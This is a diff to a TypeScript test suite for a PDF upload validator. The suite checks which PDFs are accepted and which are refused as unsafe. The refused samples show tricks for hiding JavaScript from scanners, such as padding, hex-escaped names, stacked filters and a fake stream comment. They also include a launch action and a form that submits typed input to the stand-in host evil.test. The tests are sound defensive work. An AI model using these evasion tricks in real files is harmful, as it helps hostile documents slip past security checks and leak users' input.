@@ -40,10 +40,9 @@ function crc32(bytes: Buffer): number {
 }
 
 const pdf = (body: string) => latin1(`%PDF-1.7\n${body}\ntrailer\n<</Root 1 0 R>>\n%%EOF\n`);
-const packed = (body: string) =>
-  pdf(
-    `5 0 obj <</Type /ObjStm /Filter /FlateDecode>> stream\n${deflateSync(latin1(body)).toString("latin1")}\nendstream`,
-  );
+const packedAs = (dictionary: string, body: string) =>
+  pdf(`5 0 obj <<${dictionary}>> stream\n${deflateSync(latin1(body)).toString("latin1")}\nendstream\nendobj`);
+const packed = (body: string) => packedAs("/Type /ObjStm /Filter /FlateDecode", body);
 
 let jpeg: Buffer;
 let png: Buffer;
@@ -102,6 +101,32 @@ describe("what is taken", () => {
   });
 });
 
+describe("a PDF as scanners and printers write it is taken", () => {
+  it.each<[string, () => Buffer]>([
+    [
+      "words found by chance among pixels",
+      () =>
+        pdf("4 0 obj <</Filter /DCTDecode>> stream\n\u00ff/JS\u0001/JavaScript /Launch\nendstream endobj"),
+    ],
+    ["objects packed as usual", () => packed("1 0 2 20 <</Type /Catalog /Pages 2 0 R>> <</Type /Pages>>")],
+    [
+      "a table of references with its predictor",
+      () =>
+        pdf(
+          `6 0 obj <</Type /XRef /Filter /FlateDecode /DecodeParms <</Predictor 12>>>> stream\n${deflateSync(Buffer.alloc(40)).toString("latin1")}\nendstream`,
+        ),
+    ],
+    [
+      "a link and a first page",
+      () => pdf("<</OpenAction [3 0 R /Fit]>> <</S /URI /URI (https://example.test)>>"),
+    ],
+  ])("%s", async (_, make) => {
+    expect(await prepareFile("document", { name: "a.pdf", bytes: make() })).toMatchObject({
+      mediaType: "application/pdf",
+    });
+  });
+});
+
 describe("what is refused", () => {
   const cases: [string, FileKind, () => Uint8Array, ErrorCode][] = [
     ["a PNG that claims 60000×60000", "photograph", () => claimedPng(60_000, 60_000), "file.too_many_pixels"],
@@ -126,6 +151,52 @@ describe("what is refused", () => {
     ["a PDF that launches", "document", () => pdf("<</OpenAction <</S /Launch /F (calc)>>>>"), "file.unsafe"],
     ["a PDF with an attachment", "document", () => pdf("<</Type /EmbeddedFile>>"), "file.unsafe"],
     ["a script in a packed object", "document", () => packed("<</S/JavaScript>>"), "file.unsafe"],
+    [
+      "a script packed behind long words",
+      "document",
+      () => packedAs(`/Type /ObjStm ${"/Pad 1 ".repeat(200)}/Filter /FlateDecode`, "<</S/JavaScript>>"),
+      "file.unsafe",
+    ],
+    [
+      "a script packed under a written-out name",
+      "document",
+      () => packedAs("/Type /Obj#53tm /Filter /FlateDecode", "<</S/JavaScript>>"),
+      "file.unsafe",
+    ],
+    [
+      "a packed object under two filters",
+      "document",
+      () => packedAs("/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]", "1 0 <<>>"),
+      "file.unsafe",
+    ],
+    [
+      "a packed object behind a predictor",
+      "document",
+      () => packedAs("/Type /ObjStm /Filter /FlateDecode /DecodeParms <</Predictor 12>>", "1 0 <<>>"),
+      "file.unsafe",
+    ],
+    [
+      "a script behind a comment that begins a stream",
+      "document",
+      () => pdf("% stream\n7 0 obj <</S /JavaScript>> endobj\nendstream"),
+      "file.unsafe",
+    ],
+    [
+      "a packed script behind such a comment",
+      "document",
+      () =>
+        pdf(
+          `% stream\n7 0 obj <</Type /ObjStm>> stream\n${deflateSync(latin1("<</JS 1>>")).toString("latin1")}\nendstream`,
+        ),
+      "file.unsafe",
+    ],
+    [
+      "a PDF that sends what is typed",
+      "document",
+      () => pdf("<</S /SubmitForm /F (http://evil.test)>>"),
+      "file.unsafe",
+    ],
+    ["a PDF under lock", "document", () => pdf("trailer <</Encrypt 9 0 R>>"), "file.locked"],
     ["a packed object that explodes", "document", () => packed(" ".repeat(40 * 1024 * 1024)), "file.unsafe"],
   ];
 
